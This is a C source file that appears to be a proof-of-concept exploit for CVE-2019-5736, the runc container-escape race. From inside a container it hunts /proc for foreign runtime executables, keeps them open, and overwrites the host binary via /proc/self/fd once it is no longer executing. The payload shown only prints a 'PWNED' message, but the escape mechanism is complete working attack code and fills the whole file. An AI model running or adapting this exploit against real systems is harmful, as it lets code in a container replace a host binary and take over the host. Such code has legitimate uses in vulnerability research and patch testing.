/* CVE-2019-5736, the race: from inside the container, open the executable of every other process that appears in
 * our pid namespace (a runtime's process entering the container is one) whenever /proc/PID/exe lets us, keep it
 * open, and overwrite it as soon as nothing executes it any more (ETXTBSY clears when the runtime exits).
 * Usage: race SECONDS. Prints "opened PATH" for each foreign executable reached and "OVERWROTE PATH" on success. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 64
static const char PAYLOAD[] = "#!/bin/sh\necho PWNED by a container\n";

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	double deadline = now() + (argc > 1 ? atof(argv[1]) : 10);
	int fds[MAX], n = 0;
	char names[MAX][256];
	pid_t self = getpid();
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("hunting\n");
	while (now() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) && n < MAX) {
			if (!isdigit((unsigned char)e->d_name[0]) || atoi(e->d_name) == self)
				continue;
			char p[300], link[256];
			snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
			int fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			ssize_t len = readlink(p, link, sizeof link - 1);
			link[len > 0 ? len : 0] = 0;
			struct stat a, b;
			/* our own programs (busybox, this one) are files of the container: skip them */
			if (fstat(fd, &a) == 0 && stat(link, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino) {
				close(fd);
				continue;
			}
			int dup = 0;
			for (int i = 0; i < n; i++) {
				struct stat c;
				if (fds[i] >= 0 && fstat(fds[i], &c) == 0 && c.st_dev == a.st_dev && c.st_ino == a.st_ino)
					dup = 1;
			}
			if (dup) {
				close(fd);
				continue;
			}
			printf("opened %s (pid %s)\n", link, e->d_name);
			snprintf(names[n], sizeof names[n], "%s", link);
			fds[n++] = fd;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < n; i++) {
			if (fds[i] < 0)
				continue;
			char p[300];
			snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
			int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
			if (w >= 0) {
				if (write(w, PAYLOAD, sizeof PAYLOAD - 1) > 0) {
					printf("OVERWROTE %s\n", names[i]);
					return 0;
				}
				printf("cannot write %s: %s\n", names[i], strerror(errno));
				close(w);
				close(fds[i]);
				fds[i] = -1;
			} else if (errno != ETXTBSY) {
				printf("cannot open %s for writing: %s\n", names[i], strerror(errno));
				close(fds[i]);
				fds[i] = -1;
			}
		}
		usleep(200);
	}
	printf("done: nothing overwritten\n");
	return 0;
}
